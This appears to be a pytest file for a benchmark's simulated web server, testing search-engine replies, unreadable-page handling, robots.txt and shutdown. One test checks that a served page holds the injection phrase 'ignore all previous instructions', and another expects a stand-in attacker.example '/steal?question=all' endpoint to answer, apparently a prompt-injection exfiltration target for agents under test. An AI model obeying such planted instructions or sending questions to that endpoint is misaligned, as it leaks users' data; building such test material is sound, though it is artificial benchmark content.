"""Tests of `benchmarks.assistantbench.server`."""

import time
from threading import Thread

import httpx
import pytest
from helpers.web.web_log import received_requests

from certigraph.adapters.web.pages import Fetcher
from certigraph.adapters.web.protocol import Unreadable, WebPage
from certigraph.benchmarks.assistantbench.pages import Treatment, load_cases, load_pages
from certigraph.benchmarks.assistantbench.server import (
    FIRST_ENGINE,
    SECOND_ENGINE,
    GeneratedWebServer,
    create_provider,
)

# The search engines of the invented web, over HTTP.


@pytest.fixture(scope="module")
def pages():
    return load_pages()


@pytest.fixture(scope="module")
def server(pages):
    serving = GeneratedWebServer(pages)
    yield serving
    serving.close()


@pytest.fixture
def engine(server):
    return lambda path: create_provider(f"test{path}", f"http://{server.address}{path}")


def test_the_second_engine_knows_what_the_first_does_not(engine):
    way = next(one for one in load_cases() if one.question.id == "parcels/1").question.solution[2]
    wanted = {*way.pages}
    first = {hit.url for hit in engine(FIRST_ENGINE).search(way.queries[0], 50)}
    second = {hit.url for hit in engine(SECOND_ENGINE).search(way.queries[0], 50)}
    assert not wanted & first
    assert wanted <= second


def test_results_have_the_form_of_serpers(server):
    reply = httpx.post(
        f"http://{server.address}{FIRST_ENGINE}", json={"q": "museum prices", "num": 3}, headers={"X-API-KEY": "any"}
    ).json()
    assert reply["credits"] == 1
    assert [result["position"] for result in reply["organic"]] == [1, 2, 3]
    assert all({"title", "link", "snippet", "position"} == result.keys() for result in reply["organic"])


def test_without_a_key_nothing_is_searched_and_of_an_unknown_engine_neither(server):
    assert httpx.post(f"http://{server.address}{FIRST_ENGINE}", json={"q": "museum"}).status_code == 403
    assert httpx.post(f"http://{server.address}/third", json={"q": "museum"}).status_code == 404


# The invented web over HTTP: what its server does to readers.

REASONS = {
    Treatment.SLOW: ("timed out", True),
    Treatment.REFUSED: ("403", True),
    Treatment.STUB: ("100 characters", True),
    Treatment.PRIVATE: ("private address", False),
    Treatment.HUGE: ("2 MB", False),
    Treatment.PDF: ("application/pdf", False),
}
"""By what a page does: why it cannot be read, and whether its site is given up."""


@pytest.fixture
def read(server):
    return Fetcher(timeout=1, hosts={".example": server.address}).page


def page_that(pages, does):
    return next(page for page in pages.values() if page.treatment is does)


def request_page(server, host, path, **options):
    return httpx.get(f"http://{server.address}{path}", headers={"Host": host}, timeout=2.0, **options)


@pytest.mark.slow
@pytest.mark.parametrize("treatment", REASONS)
def test_a_page_that_cannot_be_read_costs_bounded_time_and_says_why(server, pages, read, treatment):
    began = time.monotonic()
    got = read(page_that(pages, treatment).url)
    assert isinstance(got, Unreadable)
    reason, lasting = REASONS[treatment]
    assert reason in got.reason and got.lasting == lasting
    assert time.monotonic() - began < 3  # a slow page never answers


def test_a_page_that_moved_is_read_where_it_is_now(pages, read):
    page = page_that(pages, Treatment.MOVED)
    got = read(page.url)
    assert isinstance(got, WebPage)
    assert got.moved == page.target
    assert "Day ticket" in got.text


def test_orders_in_plain_sight_are_read_and_those_in_secret_are_not(pages, read):
    page = next(page for page in pages.values() if page.hidden)
    got = read(page.url)
    assert isinstance(got, WebPage)
    assert got.text.count("ignore all previous instructions") == 1


def test_robots_are_kept_out_of_one_sites_private_pages(server, pages, read):
    private = next(page for page in pages.values() if page.path.startswith("/private"))
    got = read(private.url)
    assert isinstance(got, Unreadable) and "robots.txt" in got.reason and not got.lasting
    elsewhere = page_that(pages, Treatment.MOVED).host
    assert request_page(server, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"


def test_what_no_site_has_is_not_found_by_any_engine(server):
    assert request_page(server, "nobody.example", "/").status_code == 404
    assert request_page(server, "attacker.example", "/steal?question=all").status_code == 200


def test_the_server_stops_at_once_although_a_page_is_still_waited_for(pages):
    slow = page_that(pages, Treatment.SLOW)
    other, ended = GeneratedWebServer({slow.url: slow}), []

    def wait():
        with pytest.raises(httpx.HTTPError):
            httpx.get(f"http://{other.address}{slow.path}", headers={"Host": slow.host}, timeout=20.0)
        ended.append(time.monotonic())

    waiting = Thread(target=wait)
    with received_requests() as requests:
        waiting.start()
        while not requests:
            time.sleep(0.005)
    began = time.monotonic()
    other.close()
    waiting.join(2.0)
    assert ended and ended[0] - began < 1.5  # the page would be waited for 20 s
